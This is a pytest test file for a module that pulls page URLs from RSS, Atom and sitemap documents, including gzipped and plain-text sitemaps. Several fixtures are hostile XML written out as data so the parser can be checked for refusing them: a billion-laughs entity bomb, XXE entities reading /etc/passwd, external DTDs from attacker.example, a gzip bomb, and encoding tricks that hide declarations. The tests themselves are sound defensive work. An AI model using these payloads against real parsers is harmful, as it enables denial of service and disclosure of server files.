from __future__ import annotations

import gzip
import time

import pytest

from transforms import reasons
from transforms.documents.discovery import DiscoveryError, SitemapEntries, feed_entry_urls, sitemap_entries

BASE = "https://news.example.com/rss/world.xml"
SITEMAP_BASE = "https://news.example.com/sitemap.xml"
CAP = 1_000_000

RSS = b"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel>
  <title>World</title><link>https://news.example.com/</link><description>d</description>
  <item><title>One</title><link>https://news.example.com/world/one</link></item>
  <item><title>Two</title><link>/world/two</link><description>&lt;p&gt;html &amp; more&lt;/p&gt;</description></item>
  <item><title>One again</title><link>https://news.example.com/world/one</link></item>
  <item><title>Permalink guid</title><guid>https://news.example.com/world/three</guid></item>
  <item><title>Opaque guid</title><guid isPermaLink="false">tag:1234</guid></item>
  <item><title>Mail</title><link>mailto:desk@example.com</link></item>
</channel></rss>"""

ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Blog</title><id>urn:feed</id><updated>2024-05-01T00:00:00Z</updated>
  <entry><title>A</title><id>urn:a</id><updated>2024-05-01T00:00:00Z</updated>
    <link rel="edit" href="/edit/a"/><link rel="alternate" type="text/html" href="https://blog.example.org/a"/></entry>
  <entry xml:base="https://blog.example.org/2024/"><title>B</title><id>urn:b</id>
    <updated>2024-05-01T00:00:00Z</updated><link href="b.html"/></entry>
  <entry><title>C</title><id>urn:c</id><updated>2024-05-01T00:00:00Z</updated><link href="c/"/></entry>
</feed>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>&lol9;</title><link>https://news.example.com/&lol9;</link></item></channel></rss>"""

URLSET = b"""<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"
        xmlns:image="http://www.google.com/schemas/sitemap-image/1.1"
        xmlns:news="http://www.google.com/schemas/sitemap-news/0.9">
  <url><loc>https://news.example.com/world/one</loc><lastmod>2024-05-01</lastmod>
    <image:image><image:loc>https://img.example.com/one.jpg</image:loc></image:image></url>
  <url><loc>
      https://news.example.com/world/two
  </loc><news:news><news:title>Two</news:title></news:news></url>
  <url><loc>/world/three</loc></url>
  <url><loc>https://news.example.com/world/one</loc></url>
  <url><lastmod>2024-05-01</lastmod></url>
</urlset>"""

SITEMAP_INDEX = b"""<?xml version="1.0" encoding="UTF-8"?>
<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
  <sitemap><loc>https://news.example.com/sitemap-2024-05.xml.gz</loc><lastmod>2024-05-01</lastmod></sitemap>
  <sitemap><loc>/sitemap-2024-04.xml</loc></sitemap>
</sitemapindex>"""


def _refused(call, reason: str) -> DiscoveryError:
    with pytest.raises(DiscoveryError) as info:
        call()
    assert info.value.reason == reason
    assert info.value.reason in reasons.ALL
    assert info.value.detail
    return info.value


# --- feeds ---------------------------------------------------------------------------------


def test_rss_links_resolved_deduplicated_in_order() -> None:
    assert feed_entry_urls(RSS, BASE) == (
        "https://news.example.com/world/one",
        "https://news.example.com/world/two",
        "https://news.example.com/world/three",
    )


def test_atom_alternate_links_and_xml_base() -> None:
    assert feed_entry_urls(ATOM, "https://blog.example.org/feed/atom") == (
        "https://blog.example.org/a",
        "https://blog.example.org/2024/b.html",
        "https://blog.example.org/feed/c/",
    )


def test_relative_links_against_the_feed_url() -> None:
    feed = (
        b'<rss version="2.0"><channel><title>t</title>'
        b"<item><link>story-1.html</link></item><item><link>../sport/story-2</link></item>"
        b"<item><link>//cdn.example.net/x</link></item></channel></rss>"
    )
    assert feed_entry_urls(feed, "https://ex.com/news/feed.xml") == (
        "https://ex.com/news/story-1.html",
        "https://ex.com/sport/story-2",
        "https://cdn.example.net/x",
    )


def test_empty_valid_feed_gives_nothing() -> None:
    assert feed_entry_urls(b'<rss version="2.0"><channel><title>t</title></channel></rss>', BASE) == ()


def test_billion_laughs_refused_fast() -> None:
    start = time.perf_counter()
    _refused(lambda: feed_entry_urls(BILLION_LAUGHS, BASE), reasons.PARSE_ERROR)
    assert time.perf_counter() - start < 0.2


@pytest.mark.parametrize(
    "encode",
    [
        lambda doc: doc.encode("utf-16"),
        lambda doc: doc.replace('encoding="utf-8"', 'encoding="cp037"').encode("cp037"),  # EBCDIC
        lambda doc: doc.replace('encoding="utf-8"', 'encoding="utf-7"').replace("<!", "+ADwAIQ-").encode("ascii"),
    ],
)
def test_declarations_refused_in_any_encoding(encode) -> None:
    doc = (
        '<?xml version="1.0" encoding="utf-8"?><!DOCTYPE rss [<!ENTITY x "EXPANDED">]>'
        '<rss version="2.0"><channel><title>t</title><item><link>https://ex.com/&x;</link></item></channel></rss>'
    )
    _refused(lambda: feed_entry_urls(encode(doc), BASE), reasons.PARSE_ERROR)


def test_external_entity_feed_refused() -> None:
    feed = (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b'<rss version="2.0"><channel><title>t</title><item><link>https://ex.com/&xxe;</link></item>'
        b"</channel></rss>"
    )
    _refused(lambda: feed_entry_urls(feed, BASE), reasons.PARSE_ERROR)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"this is not xml at all",
        b"<rss><channel><item><link>https://ex.com/a</lin",  # broken, and no entry link survives
        b"<html><head><title>404</title></head><body>Not found</body></html>",  # well-formed, not a feed
        b"\x89PNG\r\n\x1a\n\x00\x00",
    ],
)
def test_unreadable_feeds_are_parse_errors(data: bytes) -> None:
    _refused(lambda: feed_entry_urls(data, BASE), reasons.PARSE_ERROR)


def test_bozo_feed_with_entries_still_gives_them() -> None:
    feed = b'<rss version="2.0"><channel><item><link>https://ex.com/a</link></item><item><link>https://ex.com/b'
    assert feed_entry_urls(feed, BASE)[:1] == ("https://ex.com/a",)


def test_a_file_name_is_not_opened() -> None:
    with pytest.raises(DiscoveryError):
        feed_entry_urls(b"/etc/hostname", BASE)


# --- sitemaps ------------------------------------------------------------------------------


def test_urlset() -> None:
    assert sitemap_entries(URLSET, SITEMAP_BASE, CAP) == SitemapEntries(
        page_urls=(
            "https://news.example.com/world/one",
            "https://news.example.com/world/two",
            "https://news.example.com/world/three",
        ),
        sitemap_urls=(),
    )


def test_sitemap_index() -> None:
    assert sitemap_entries(SITEMAP_INDEX, SITEMAP_BASE, CAP) == SitemapEntries(
        page_urls=(),
        sitemap_urls=(
            "https://news.example.com/sitemap-2024-05.xml.gz",
            "https://news.example.com/sitemap-2024-04.xml",
        ),
    )


def test_gzipped_sitemap() -> None:
    assert sitemap_entries(gzip.compress(URLSET), SITEMAP_BASE, CAP) == sitemap_entries(URLSET, SITEMAP_BASE, CAP)


def test_sitemap_without_namespace_bom_and_leading_blank_lines() -> None:
    data = b"\xef\xbb\xbf\n\n  <urlset><url><loc>https://ex.com/a</loc></url></urlset>\n"
    assert sitemap_entries(data, SITEMAP_BASE, CAP).page_urls == ("https://ex.com/a",)


def test_utf16_sitemap() -> None:
    data = '<?xml version="1.0" encoding="UTF-16"?><urlset><url><loc>https://ex.com/é</loc></url></urlset>'
    assert sitemap_entries(data.encode("utf-16"), SITEMAP_BASE, CAP).page_urls == ("https://ex.com/é",)


def test_gzip_bomb_refused() -> None:
    bomb = gzip.compress(b"<urlset>" + b" " * 50_000_000 + b"</urlset>")
    assert len(bomb) < 100_000
    start = time.perf_counter()
    error = _refused(lambda: sitemap_entries(bomb, SITEMAP_BASE, CAP), reasons.DECOMPRESSED_TOO_LARGE)
    assert time.perf_counter() - start < 1.0
    assert str(CAP) in error.detail


def test_corrupt_gzip_refused() -> None:
    _refused(lambda: sitemap_entries(gzip.compress(URLSET)[:-30], SITEMAP_BASE, CAP), reasons.BAD_GZIP)


def test_plain_sitemap_over_the_cap_refused() -> None:
    _refused(lambda: sitemap_entries(URLSET, SITEMAP_BASE, 100), reasons.TOO_LARGE)


@pytest.mark.parametrize(
    "data",
    [
        b"<urlset><url><loc>https://ex.com/a</loc></url>",  # unclosed
        b"<urlset><url><loc>https://ex.com/a</loc></url></urlset><extra/>",
        b"<?xml version='1.0'?><urlset><url><loc>a & b</loc></url></urlset>",
        b"<html><body>Sitemap moved</body></html>",  # well-formed, but not a sitemap
    ],
)
def test_malformed_sitemap_is_parse_error(data: bytes) -> None:
    _refused(lambda: sitemap_entries(data, SITEMAP_BASE, CAP), reasons.PARSE_ERROR)


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b"<urlset><url><loc>https://ex.com/&xxe;</loc></url></urlset>",
        b'<?xml version="1.0"?><!DOCTYPE urlset SYSTEM "http://attacker.example/evil.dtd">'
        b"<urlset><url><loc>https://ex.com/a</loc></url></urlset>",
        b'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><urlset/>',
    ],
)
def test_external_entity_sitemap_refused(data: bytes) -> None:
    _refused(lambda: sitemap_entries(data, SITEMAP_BASE, CAP), reasons.PARSE_ERROR)
    _refused(lambda: sitemap_entries(gzip.compress(data), SITEMAP_BASE, CAP), reasons.PARSE_ERROR)


def test_billion_laughs_sitemap_refused_fast() -> None:
    data = BILLION_LAUGHS.replace(b"rss", b"urlset")
    start = time.perf_counter()
    _refused(lambda: sitemap_entries(data, SITEMAP_BASE, CAP), reasons.PARSE_ERROR)
    assert time.perf_counter() - start < 0.2


def test_plain_text_sitemap() -> None:
    data = b"https://ex.com/a\r\n\r\nhttps://ex.com/b\nhttps://ex.com/a\n  https://ex.com/c  \nftp://ex.com/d\n"
    assert sitemap_entries(data, SITEMAP_BASE, CAP) == SitemapEntries(
        ("https://ex.com/a", "https://ex.com/b", "https://ex.com/c"), ()
    )
    assert sitemap_entries(gzip.compress(data), SITEMAP_BASE, CAP).page_urls == (
        "https://ex.com/a",
        "https://ex.com/b",
        "https://ex.com/c",
    )


@pytest.mark.parametrize("data", [b"just some words\nand more", b"\xff\xfe\xfa not utf-8 https://ex.com/"])
def test_text_that_lists_no_url_is_parse_error(data: bytes) -> None:
    _refused(lambda: sitemap_entries(data, SITEMAP_BASE, CAP), reasons.PARSE_ERROR)


def test_empty_sitemap_lists_nothing() -> None:
    assert sitemap_entries(b"", SITEMAP_BASE, CAP) == SitemapEntries((), ())
    assert sitemap_entries(b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"/>', SITEMAP_BASE, CAP) == (
        SitemapEntries((), ())
    )


def test_feed_given_as_sitemap() -> None:
    assert sitemap_entries(RSS, SITEMAP_BASE, CAP).page_urls[0] == "https://news.example.com/world/one"
